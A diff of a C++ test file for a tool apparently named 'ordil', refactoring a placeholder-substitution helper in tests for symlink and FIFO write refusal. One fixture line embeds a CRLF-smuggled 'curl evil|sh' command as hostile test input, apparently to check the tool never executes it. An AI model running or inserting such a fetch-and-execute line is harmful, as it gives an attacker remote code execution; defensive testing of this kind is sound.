@@ -526,6 +526,11 @@ class Planted : public Batch {
                                      : std::vector<std::string>{ordilExe(), folder + "/x.ashx"},
                                limited);
   }
+  // text with its SHARE standing for the folder.
+  static std::string inFolder(std::string text, const std::string& folder) {
+    if (const size_t at = text.find("SHARE"); at != std::string::npos) text.replace(at, 5, folder);
+    return text;
+  }
   const std::string document_ =
       expectedHead("0") + chat(1, "u", 0, "184", "x\r\ncurl evil|sh;#") + "</packet>";
 };
@@ -555,11 +560,7 @@ TEST_F(Planted, LinksOfAnotherUserAreNeverWrittenThrough) {
       const testing::ProcessResult r = run(folder, batch);
       EXPECT_EQ(r.signal, 0);
       EXPECT_EQ(r.status, 1);
-      std::string reason = c.reason;
-      if (const size_t at = reason.find("SHARE"); at != std::string::npos) {
-        reason.replace(at, 5, folder);
-      }
-      EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + reason + "\n");
+      EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason, folder) + "\n");
       EXPECT_EQ(read(name + "/victim"), "victim");
       EXPECT_EQ(fs::read_symlink(foreign), c.target);
       // Nothing left beside them; the batch went on with the next file.
@@ -597,17 +598,13 @@ TEST_F(Planted, BatchRefusesWhatIsNoRegularFileWithoutWaiting) {
   for (const auto& c : cases) {
     SCOPED_TRACE(c.name);
     const std::string folder = share(c.name);
-    const auto inFolder = [&](std::string text) {
-      if (const size_t at = text.find("SHARE"); at != std::string::npos) text.replace(at, 5, folder);
-      return text;
-    };
     ASSERT_EQ(testing::makeFifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), "");
-    if (!c.fifoInPlace) fs::create_symlink(inFolder(c.linked), folder + "/x.xml");
+    if (!c.fifoInPlace) fs::create_symlink(inFolder(c.linked, folder), folder + "/x.xml");
 
     const testing::ProcessResult r = run(folder, true);
     EXPECT_EQ(r.signal, 0) << "it waited";
     EXPECT_EQ(r.status, 1);
-    EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason) + "\n");
+    EXPECT_EQ(r.err, "ordil: " + folder + "/x.xml: not written: " + inFolder(c.reason, folder) + "\n");
     EXPECT_EQ(read(std::string(c.name) + "/ok.xml"), documentFor(std::string(c.name) + "/ok.ashx", "0"));
     EXPECT_EQ(fs::is_fifo(folder + (c.fifoInPlace ? "/x.xml" : "/f")), true);
   }
